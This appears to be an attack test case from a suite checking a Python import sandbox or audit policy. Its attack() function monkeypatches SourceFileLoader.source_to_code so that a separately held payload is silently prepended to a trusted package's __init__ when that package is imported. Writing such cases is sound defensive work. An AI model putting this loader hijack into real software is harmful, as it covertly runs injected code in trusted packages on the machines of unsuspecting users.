"""The loaders' own source_to_code is changed before a granted import."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "allow"
SILENT = "The file is compiled in C, which asks no source_to_code()."

from importlib.machinery import SourceFileLoader

from . import payload


def source_to_code(self, data, path, *, _optimize=-1,
                   before=SourceFileLoader.source_to_code):
    if "good/__init__" in path:
        data = payload.SOURCE.encode() + b"\n" + bytes(data)
    return before(self, data, path)


def attack():
    SourceFileLoader.source_to_code = source_to_code
